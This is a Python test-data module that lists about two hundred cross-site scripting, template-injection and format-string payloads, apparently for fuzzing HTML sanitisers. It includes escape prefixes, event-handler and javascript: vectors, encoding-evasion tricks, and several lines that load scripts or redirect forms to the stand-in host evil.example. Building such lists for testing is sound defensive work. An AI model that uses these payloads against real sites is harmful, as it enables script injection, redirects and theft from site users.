"""About two hundred texts that have run as a script, or broken out of their place, in somebody's pages."""

HANDLERS = [
    "onerror",
    "onload",
    "onfocus",
    "onclick",
    "onmouseover",
    "onpointerenter",
    "ontoggle",
    "onanimationstart",
]
CALL = "alert(1)"
BREAKS = ["", '"', "'", '">', "'>", "-->", "</textarea>", "</title>", "</style>", "</script>", "</svg>", "</noscript>", "</template>", "]]>", "`>", "\\\">"]  # fmt: skip
TAGS = [
    f"<script>{CALL}</script>", "<script src=//evil.example/x.js></script>", f"<img src=x onerror={CALL}>",
    f"<svg onload={CALL}>", f"<svg><script>{CALL}</script></svg>", f"<body onload={CALL}>", f"<iframe srcdoc='<script>{CALL}</script>'>",
    f"<iframe src=javascript:{CALL}>", f"<details open ontoggle={CALL}>", f"<input autofocus onfocus={CALL}>",
    f"<video><source onerror={CALL}></video>", f"<math><mtext></table><mglyph><style><img src=x onerror={CALL}>",
]  # fmt: skip
SINGLE = [
    f"javascript:{CALL}", f"JaVaScRiPt:{CALL}", f"java\tscript:{CALL}", f"data:text/html,<script>{CALL}</script>", f"vbscript:{CALL}",
    f"<a href=javascript:{CALL}>x</a>", f"<form action=javascript:{CALL}><button>x", f"<button formaction=javascript:{CALL}>x",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example/x)}</style>", "<style>@import '//evil.example/x.css';</style>", "<object data=//evil.example/x>",
    "<embed src=//evil.example/x>", "<audio src=//evil.example/x autoplay>", "<img src=//evil.example/x.png>", "<img srcset='//evil.example/x 2x'>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>", f"<svg><a xlink:href=javascript:{CALL}><text y=9>x", "<svg><use href=//evil.example/x#y>",
    f"<svg><foreignObject><img src=x onerror={CALL}>", f"<marquee onstart={CALL}>", f"<select onfocus={CALL} autofocus>",
    f"<xss style=animation-name:x onanimationstart={CALL}>", f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    f"<template><script>{CALL}</script></template>", f"<isindex action=javascript:{CALL}>", f"<keygen autofocus onfocus={CALL}>",
    f"<!--<img src='--><img src=x onerror={CALL}>'>", f"<![CDATA[<script>{CALL}</script>]]>", f"<?xml version='1.0'?><script>{CALL}</script>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>", f"<<script>{CALL}//<</script>", f"<script\x0c>{CALL}</script>", f"<script/x>{CALL}</script>",
    f"<SCRIPT>{CALL}</SCRIPT>", f"<ſcript>{CALL}</ſcript>", f"＜script＞{CALL}＜/script＞", f"%3Cscript%3E{CALL}%3C/script%3E",
    f"&lt;script&gt;{CALL}&lt;/script&gt;", f"&#60;script&#62;{CALL}&#60;/script&#62;", f"&#x3c;img src=x onerror={CALL}&#x3e;", f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{CALL}", f"+ADw-script+AD4-{CALL}+ADw-/script+AD4-", f"{{{{constructor.constructor('{CALL}')()}}}}", "{{7*7}}", "{% raw %}", "{{ config }}",
    "{{ ''.__class__.__mro__ }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{council_name}", "{duty_number}", "%(x)s", "%s%s%s%n", "{0.__class__}", "{__init__.__globals__}",
    "'-alert(1)-'", '";alert(1)//', "\\';alert(1)//", "`${alert(1)}`", "</script><script>alert(1)</script>", "*/alert(1)/*", "\u2028alert(1)\u2029",
    "x\" autofocus onfocus=\"alert(1)", "x' style='position:fixed", "x`onmouseover=alert(1)`", "\" type=image src=x onerror=\"alert(1)", "x\"><input name=\"token\" value=\"stolen",
    "\"/><form action=//evil.example>", "\"accesskey=\"x\" onclick=\"alert(1)", "x\" formaction=\"//evil.example", "x\" id=\"answers", "<h1>Another heading</h1>", "<textarea>", "<!DOCTYPE html>",
    "<plaintext>", "<title>x</title>", "<svg><style>", "<table><td>", "</body></html>", "<", ">", "&", '"', "'", "`", "&amp;", "&copy", "<>", "</", "<!", "<!--", "-->", "\u202e<b>evil", "<b>bold</b>",
]  # fmt: skip
PAYLOADS: list[str] = list(
    dict.fromkeys(
        [
            *SINGLE,
            *(before + tag for before in BREAKS for tag in TAGS[:4]),
            *TAGS[4:],
            *(f'x" {handler}="{CALL}' for handler in HANDLERS),
            *(f"x' {handler}='{CALL}" for handler in HANDLERS),
            *(f"<i {handler}={CALL}>" for handler in HANDLERS),
        ]
    )
)
